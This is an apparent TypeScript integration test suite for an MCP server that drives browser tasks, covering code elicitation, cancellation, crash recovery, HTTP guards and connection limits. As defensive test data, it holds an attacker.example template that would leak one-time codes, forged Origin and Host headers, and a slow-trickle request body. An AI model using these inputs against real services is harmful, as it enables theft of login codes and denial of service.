// The MCP server to 2025-11-25 clients, driven by the MCP SDK's v1 Client (what most clients in
// use are built on) over both transports (stdio: the CLI's `mcp` as a child process; Streamable
// HTTP: in this process, and as a child where it is killed), against a real worker, a dev server
// and the emulator: a task end to end with progress, a code elicited and typed once, a client
// without elicitation told how to submit, a cancel that stops the task once, the server killed
// mid-call and a new one resuming, the fence, HTTP's guards and limits, every argument problem at
// once, a task whose waits are all taken, the waiting list at a thousand other tasks, and stdout
// that carries the protocol only.
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect as tcpConnect, type Socket } from 'node:net';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { after, before, describe, test } from 'node:test';
import { WorkflowUpdateStage } from '@temporalio/client';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { ElicitRequestSchema, type CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { startMcpHttpServer, type McpHttpServer } from '../src/mcp';
import type { McpTaskReport } from '../src/mcp/contract';
import { nextInputRequestUpdate } from '../src/contract/messages';
import { BrowserAIAwaitingInput, BrowserAIAwaitingInputSince } from '../src/contract/search-attributes';
import { CLI, httpChild, mcpChildEnv } from './helpers/mcp';
import { eventually, startStack, taskInput, type Stack } from './helpers/stack';

const CODE = '482913';

let stack: Stack;
let http: McpHttpServer;
/** This file's workflow ID prefix: its tasks are told apart from other files' on a shared server. */
const prefix = `mcp-test-${randomUUID().slice(0, 8)}-`;

before(async () => {
  stack = await startStack();
  http = await startMcpHttpServer({
    tasks: stack.tasks,
    port: 0,
    fence: { idPrefix: prefix },
    progressIntervalMs: 100,
  });
});

after(async () => {
  await http?.close();
  await stack?.stop();
});

const childEnv = () => mcpChildEnv(stack, prefix);

type Transport = 'stdio' | 'http';

interface Connected {
  client: Client;
  progress: string[];
  elicited: string[];
  /** The child process serving this client, when there is one. */
  child?: ChildProcess;
  close(): Promise<void>;
}

/** A real MCP client; with `code`, it supports elicitation and answers with it (or declines with `decline`). */
async function connect(
  transport: Transport,
  options: { code?: string | 'decline'; url?: string; child?: ChildProcess } = {},
): Promise<Connected> {
  const client = new Client(
    { name: 'test-client', version: '1.0.0' },
    { capabilities: options.code ? { elicitation: {} } : {} },
  );
  const elicited: string[] = [];
  if (options.code) {
    const answer = options.code;
    client.setRequestHandler(ElicitRequestSchema, (request) => {
      elicited.push(request.params.message);
      return answer === 'decline' ? { action: 'decline' } : { action: 'accept', content: { code: answer } };
    });
  }
  let child = options.child;
  if (transport === 'stdio') {
    const stdio = new StdioClientTransport({
      command: process.execPath,
      args: [CLI, 'mcp'],
      env: childEnv() as Record<string, string>,
      stderr: 'ignore',
    });
    await client.connect(stdio);
    child = { pid: stdio.pid, kill: (signal: NodeJS.Signals) => process.kill(stdio.pid!, signal) } as ChildProcess;
  } else {
    await client.connect(new StreamableHTTPClientTransport(new URL(options.url ?? http.url)));
  }
  return { client, progress: [], elicited, child, close: () => client.close() };
}

async function call(
  connected: Connected,
  name: string,
  args: Record<string, unknown>,
): Promise<McpTaskReport & { isError?: boolean; text?: string }> {
  const result = (await connected.client.callTool({ name, arguments: args }, undefined, {
    onprogress: (p) => void connected.progress.push(p.message ?? ''),
    timeout: 30_000,
  })) as CallToolResult;
  if (result.isError) return { isError: true, text: (result.content[0] as { text: string }).text } as never;
  // Never a code in what the client is given.
  assert.ok(!JSON.stringify(result).includes(CODE), 'no code in a tool result');
  return result.structuredContent as unknown as McpTaskReport;
}

for (const transport of ['stdio', 'http'] as const) {
  describe(`over ${transport}`, () => {
    // One client without elicitation and one with it, for the tests that do not kill their server.
    let plain: Connected;
    let eliciting: Connected;
    before(async () => {
      [plain, eliciting] = await Promise.all([connect(transport), connect(transport, { code: CODE })]);
    });
    after(async () => {
      await Promise.all([plain?.close(), eliciting?.close()]);
    });

    test('a task end to end, with masked progress notifications', async () => {
      const mcp = plain;
      const listed = await mcp.client.listTools();
      assert.ok(listed.tools.find((t) => t.name === 'run_task')?.outputSchema, 'tools have output schemas');
      const report = await call(mcp, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Open https://example.com [duration=1500ms]' }] }),
        waitSeconds: 20,
      });
      assert.equal(report.status, 'completed', JSON.stringify(report));
      assert.ok(report.workflowId.startsWith(prefix));
      assert.equal(report.result?.status, 'finalized');
      assert.ok(mcp.progress.length >= 1, 'progress notifications while the call waited');
      assert.ok(
        mcp.progress.some((line) => /running/i.test(line)),
        mcp.progress.join('\n'),
      );
    });

    test('a code is elicited from the user and typed once; never echoed', async () => {
      const mcp = eliciting;
      const report = await call(mcp, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Log in [needs-code]' }] }),
        waitSeconds: 20,
      });
      assert.equal(report.status, 'completed', JSON.stringify(report));
      assert.equal(mcp.elicited.length, 1, 'asked once');
      assert.match(mcp.elicited[0]!, /one-time code/);
      assert.deepEqual(stack.emulator.task(report.executionId!)?.codesReceived, [CODE]);
      assert.ok(!mcp.progress.join('\n').includes(CODE), 'no code in a notification');
    });

    test('a client without elicitation is told how to submit the code; submit_code types it once', async () => {
      const mcp = plain;
      const waiting = await call(mcp, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Log in [needs-code]' }] }),
        waitSeconds: 20,
      });
      assert.equal(waiting.status, 'waiting_for_code', JSON.stringify(waiting));
      assert.match(waiting.next, /submit_code/);
      assert.equal(waiting.inputRequest?.kind, 'code');
      const done = await call(mcp, 'submit_code', { workflowId: waiting.workflowId, code: CODE, waitSeconds: 20 });
      assert.equal(done.status, 'completed', JSON.stringify(done));
      assert.deepEqual(stack.emulator.task(done.executionId!)?.codesReceived, [CODE]);
    });

    test('cancel_task stops the task once', async () => {
      const mcp = plain;
      const running = await call(mcp, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Crawl for a while [slow]' }] }),
        waitSeconds: 1,
      });
      assert.equal(running.status, 'running', JSON.stringify(running));
      const cancelled = await call(mcp, 'cancel_task', { workflowId: running.workflowId, waitSeconds: 20 });
      assert.equal(cancelled.status, 'cancelled', JSON.stringify(cancelled));
      assert.equal(cancelled.stopConfirmed, true);
      const executionId = cancelled.executionId!;
      assert.equal(stack.emulator.count('POST', new RegExp(`/tasks/${executionId}/command`)), 1, 'one stop');
      assert.equal(stack.emulator.task(executionId)?.status, 'stopped');
    });

    test('the server killed mid-call loses nothing: a new server resumes the task by ID', async () => {
      const project = `mcp-kill-${randomUUID()}`;
      // Two servers (processes) at once, to save a start: the second never sees the task begin.
      const [served, again] =
        transport === 'http'
          ? await Promise.all([httpChild(childEnv()), httpChild(childEnv())])
          : [undefined, undefined];
      const [first, second] = await Promise.all([connect(transport, served), connect(transport, again)]);
      const calling = call(first, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Open https://example.com [duration=3s]' }], project }),
        waitSeconds: 30,
      }).then(
        () => assert.fail('the call should die with its server'),
        () => 'died',
      );
      // Killed once the task is running; the call dies with the server, the task does not.
      const [mine] = await waitFor(async () => nonEmpty(await runningIds(project)));
      first.child!.kill('SIGKILL');
      await first.close().catch(() => undefined);
      assert.equal(await calling, 'died');
      if (served) await once(served.child, 'exit').catch(() => undefined);
      assert.equal((await stack.tasks.handle(mine).describe()).status.name, 'RUNNING', 'killed mid-task');

      try {
        const recent = (await second.client.callTool({ name: 'list_my_tasks', arguments: {} })).structuredContent as {
          tasks: Array<{ workflowId: string }>;
        };
        assert.ok(
          recent.tasks.some((t) => t.workflowId === mine),
          'the new session lists the task',
        );
        const report = await call(second, 'get_task', { workflowId: mine, waitSeconds: 20 });
        assert.equal(report.status, 'completed', JSON.stringify(report));
      } finally {
        await second.close();
        again?.child.kill('SIGTERM');
      }
    });
  });
}

describe('declined codes and cancelled calls', () => {
  test('a declined code leaves the task waiting, or with ifCodeDeclined: cancel, cancels it (one stop)', async () => {
    const mcp = await connect('http', { code: 'decline' });
    try {
      const task = taskInput({ instructions: [{ action: 'Log in [needs-code]' }] });
      const kept = await call(mcp, 'run_task', { task, waitSeconds: 20 });
      assert.equal(kept.status, 'waiting_for_code', JSON.stringify(kept));
      assert.match(kept.next, /declined/);
      const cancelled = await call(mcp, 'run_task', { task, waitSeconds: 20, ifCodeDeclined: 'cancel' });
      assert.equal(cancelled.status, 'cancelled', JSON.stringify(cancelled));
      assert.equal(stack.emulator.count('POST', new RegExp(`/tasks/${cancelled.executionId}/command`)), 1, 'one stop');
      await call(mcp, 'cancel_task', { workflowId: kept.workflowId, waitSeconds: 0 });
    } finally {
      await mcp.close();
    }
  });

  test('a call the client cancels cancels nothing, unless it asked to (cancelIfCallCancelled)', async () => {
    const mcp = await connect('http');
    try {
      const outcomes: string[] = [];
      for (const cancelIfCallCancelled of [false, true]) {
        const aborter = new AbortController();
        const project = `mcp-abort-${randomUUID()}`;
        const calling = mcp.client.callTool(
          {
            name: 'run_task',
            arguments: {
              task: taskInput({ instructions: [{ action: 'Crawl [slow]' }], project }),
              waitSeconds: 30,
              cancelIfCallCancelled,
            },
          },
          undefined,
          { signal: aborter.signal },
        );
        const [workflowId] = await waitFor(async () => nonEmpty(await runningIds(project)));
        aborter.abort();
        await assert.rejects(calling);
        const report = await call(mcp, 'get_task', { workflowId, waitSeconds: cancelIfCallCancelled ? 20 : 1 });
        outcomes.push(report.status);
        if (!cancelIfCallCancelled) await stack.tasks.cancel(workflowId);
      }
      assert.deepEqual(outcomes, ['running', 'cancelled']);
    } finally {
      await mcp.close();
    }
  });
});

describe('the fence', () => {
  test('an MCP client cannot name TOTP secrets, templates, webhooks or task queues, nor reach tasks it did not start', async () => {
    const mcp = await connect('http');
    try {
      const refused = await call(mcp, 'run_task', {
        task: taskInput({
          totpSecretName: 'github',
          codeInstructionTemplate: 'Open https://attacker.example/?otp={code}',
          webhook: { reference: 'someone-else' },
          activityOptions: { taskQueue: 'elsewhere' },
        }),
      });
      assert.equal(refused.isError, true);
      for (const field of ['totpSecretName', 'codeInstructionTemplate', 'webhook', 'activityOptions'])
        assert.match(refused.text!, new RegExp(field));
      const other = await stack.tasks.start(taskInput(), { workflowId: `not-mcp-${randomUUID()}` });
      for (const tool of ['get_task', 'submit_code', 'cancel_task']) {
        const answer = await call(mcp, tool, { workflowId: other.workflowId, code: CODE, waitSeconds: 0 });
        assert.equal(answer.isError, true, tool);
        assert.match(answer.text!, /not a task this MCP server started/);
      }
      const invalid = await call(mcp, 'run_task', { task: taskInput({ geoLocation: { country: 'XX' } }) });
      assert.match(invalid.text!, /Invalid input: task: .*country/);
    } finally {
      await mcp.close();
    }
  });
});

const initializeRequest = {
  jsonrpc: '2.0',
  id: 1,
  method: 'initialize',
  params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'curl', version: '1' } },
};

/** A raw POST (node:http, which sends the Host and Origin given), answering the status. */
function post(url: string, headers: Record<string, string>, body: unknown = initializeRequest): Promise<number> {
  return new Promise<number>((resolve, reject) => {
    const request = httpRequest(
      url,
      {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream', ...headers },
      },
      (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      },
    );
    request.on('error', reject);
    request.end(JSON.stringify(body));
  });
}

describe('HTTP guards', () => {
  test('a foreign Origin is refused, and so is a request without the token; too large a body is refused', async () => {
    assert.equal(await post(http.url, { origin: 'https://evil.example' }), 403);
    assert.equal(await post(http.url, { host: 'evil.example' }), 403, 'a rebound DNS name');
    assert.equal(await post(http.url, { origin: new URL(http.url).origin }), 200, 'its own origin');
    const guarded = await startMcpHttpServer({
      tasks: stack.tasks,
      port: 0,
      token: 'secret-token-1',
      maxBodyBytes: 4096,
    });
    try {
      assert.equal(await post(guarded.url, {}), 401);
      assert.equal(await post(guarded.url, { authorization: 'Bearer wrong' }), 401);
      assert.equal(await post(guarded.url, { authorization: 'Bearer secret-token-1' }), 200);
      assert.equal(
        await post(guarded.url, { authorization: 'Bearer secret-token-1' }, { pad: 'x'.repeat(10_000) }),
        413,
      );
    } finally {
      await guarded.close();
    }
    await assert.rejects(startMcpHttpServer({ tasks: stack.tasks, host: '0.0.0.0', port: 0 }), /BROWSERAI_MCP_TOKEN/);
  });
});

describe('arguments', () => {
  test('every problem of the arguments is named at once, the wait options and the task alike', async () => {
    const mcp = await connect('http');
    try {
      const refused = await call(mcp, 'run_task', {
        task: taskInput({ geoLocation: { country: 'XX' } }),
        waitSeconds: -1,
        ifCodeDeclined: 'maybe',
      });
      assert.equal(refused.isError, true);
      for (const named of ['waitSeconds', 'ifCodeDeclined', 'country']) assert.match(refused.text!, new RegExp(named));
      const badCode = await call(mcp, 'submit_code', { workflowId: 'elsewhere-1', code: 'x', waitSeconds: 601 });
      for (const named of ['waitSeconds', 'not a task this MCP server started', 'code must'])
        assert.match(badCode.text!, new RegExp(named));
    } finally {
      await mcp.close();
    }
  });
});

describe('a task whose waits are all taken', () => {
  test('get_task still says the task waits for a code when it keeps no more waits (TooManyWaiters), every time', async () => {
    const mcp = await connect('http');
    try {
      // Started outside MCP (under the server's prefix): no wait of this server has asked it anything yet.
      const { workflowId } = await stack.tasks.start(taskInput({ instructions: [{ action: 'Log in [needs-code]' }] }), {
        workflowId: `${prefix}${randomUUID()}`,
      });
      await eventually('the task waits for a code', async () => (await stack.tasks.state(workflowId)).inputRequest);
      // Five other callers wait on the task (for requests it has not made), each admitted: the most it keeps.
      const others = await Promise.all(
        [1, 2, 3, 4, 5].map((after) =>
          stack.tasks.handle(workflowId).startUpdate(nextInputRequestUpdate, {
            args: [{ after }],
            waitForStage: WorkflowUpdateStage.ACCEPTED,
          }),
        ),
      );
      for (const round of [1, 2]) {
        const report = await call(mcp, 'get_task', { workflowId, waitSeconds: 3 });
        assert.equal(report.status, 'waiting_for_code', `round ${round}: ${JSON.stringify(report)}`);
      }
      await stack.tasks.cancel(workflowId);
      await Promise.all(others.map((update) => update.result().catch(() => undefined)));
    } finally {
      await mcp.close();
    }
  });
});

describe('list_waiting_tasks', () => {
  test("lists this server's waiting tasks among a thousand others waiting, asking only its own", async () => {
    const mcp = await connect('http');
    try {
      const mine = await call(mcp, 'run_task', {
        task: taskInput({ instructions: [{ action: 'Log in [needs-code]' }] }),
        waitSeconds: 20,
      });
      assert.equal(mine.status, 'waiting_for_code', JSON.stringify(mine));
      // 1,000 tasks of another prefix wait for input, longer than ours, on a queue no worker polls:
      // a server that asked each of them (a query each) would wait on every one.
      const others = `other-${randomUUID().slice(0, 8)}-`;
      const idle = `nobody-${randomUUID()}`;
      const since = new Date(Date.now() - 60 * 60_000);
      for (let batch = 0; batch < 10; batch++) {
        await Promise.all(
          Array.from({ length: 100 }, (_, i) =>
            stack.tasks.client.workflow.start('browserTask', {
              taskQueue: idle,
              workflowId: `${others}${batch * 100 + i}`,
              args: [taskInput()],
              typedSearchAttributes: [
                { key: BrowserAIAwaitingInput, value: true },
                { key: BrowserAIAwaitingInputSince, value: since },
              ],
            }),
          ),
        );
      }
      const query = `WorkflowId STARTS_WITH '${others}' AND BrowserAIAwaitingInput = true`;
      await eventually(
        'visibility lists the thousand',
        async () => (await stack.tasks.client.workflow.count(query)).count >= 1_000,
      );
      const listed = (await mcp.client.callTool({ name: 'list_waiting_tasks', arguments: { limit: 5 } }, undefined, {
        timeout: 20_000,
      })) as CallToolResult;
      const { tasks } = listed.structuredContent as {
        tasks: Array<{ workflowId: string; request?: { kind: string } }>;
      };
      const found = tasks.find((t) => t.workflowId === mine.workflowId);
      assert.equal(found?.request?.kind, 'code', JSON.stringify(tasks));
      assert.ok(
        tasks.every((t) => t.workflowId.startsWith(prefix)),
        'only its own',
      );
      await stack.tasks.cancel(mine.workflowId);
    } finally {
      await mcp.close();
    }
  });
});

describe('HTTP limits', () => {
  /** A raw connection to the server's port. */
  const open = (url: string) =>
    new Promise<Socket>((resolve, reject) => {
      const socket = tcpConnect(Number(new URL(url).port), '127.0.0.1', () => resolve(socket));
      socket.once('error', reject);
    });
  /** Everything the server sends until it closes the connection, or `null` if it is still open after `ms`. */
  const untilClosed = (socket: Socket, ms: number) =>
    new Promise<string | null>((resolve) => {
      let received = '';
      socket.on('data', (chunk) => (received += String(chunk)));
      socket.on('error', () => undefined);
      const timer = setTimeout(() => resolve(null), ms);
      socket.once('close', () => {
        clearTimeout(timer);
        resolve(received);
      });
    });

  test('a request body trickled in is cut off at the request timeout; connections beyond the cap are refused', async () => {
    const limited = await startMcpHttpServer({
      tasks: stack.tasks,
      port: 0,
      requestTimeoutMs: 1_000,
      headersTimeoutMs: 500,
      maxConnections: 2,
    });
    try {
      // One byte every 200 ms of a 100-byte body: without a request timeout it would hold the connection for minutes.
      const slow = await open(limited.url);
      slow.write(
        `POST /mcp HTTP/1.1\r\nHost: ${new URL(limited.url).host}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n`,
      );
      const trickle = setInterval(() => slow.write('{'), 200);
      const answer = await untilClosed(slow, 10_000);
      clearInterval(trickle);
      assert.notEqual(answer, null, 'the connection was closed');
      assert.match(answer!, /^HTTP\/1\.1 408/);

      // Two connections open (idle): a third is closed at once, unanswered.
      const held = await Promise.all([open(limited.url), open(limited.url)]);
      const third = await open(limited.url);
      third.write(`GET /mcp HTTP/1.1\r\nHost: ${new URL(limited.url).host}\r\n\r\n`);
      assert.equal(await untilClosed(third, 5_000), '', 'refused beyond the cap');
      for (const socket of held) socket.destroy();
      await eventually('a connection is taken again', async () => (await post(limited.url, {}).catch(() => 0)) === 200);
    } finally {
      await limited.close();
    }
  });
});

describe('stdout under stdio', () => {
  test('the documented way to run it in this repository writes the protocol only to stdout', async () => {
    const root = join(__dirname, '..', '..');
    const documented = /`(npm run --silent starter -- mcp)`/.exec(readFileSync(join(root, 'docs', 'mcp.md'), 'utf8'));
    assert.ok(documented, 'docs/mcp.md names the command');
    const child = spawn('npm', ['run', '--silent', 'starter', '--', 'mcp'], {
      cwd: root,
      env: childEnv(),
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    try {
      const lines = createInterface({ input: child.stdout! })[Symbol.asyncIterator]();
      child.stdin!.write(`${JSON.stringify({ ...initializeRequest, id: 7 })}\n`);
      const first = await lines.next();
      assert.equal(JSON.parse(first.value as string).id, 7, `stdout begins with the answer: ${first.value}`);
    } finally {
      child.stdin!.end();
      if (child.exitCode === null) await once(child, 'exit');
    }
  });
});

/** The running tasks of a project of this file, from visibility. */
async function runningIds(project: string): Promise<string[]> {
  const ids: string[] = [];
  const query = `BrowserAIProject = '${project}' AND ExecutionStatus = 'Running'`;
  for await (const listed of stack.tasks.client.workflow.list({ query })) ids.push(listed.workflowId);
  return ids;
}

function nonEmpty<T>(list: T[]): T[] | undefined {
  return list.length > 0 ? list : undefined;
}

async function waitFor<T>(probe: () => Promise<T | undefined>, timeoutMs = 15_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 100));
  }
}
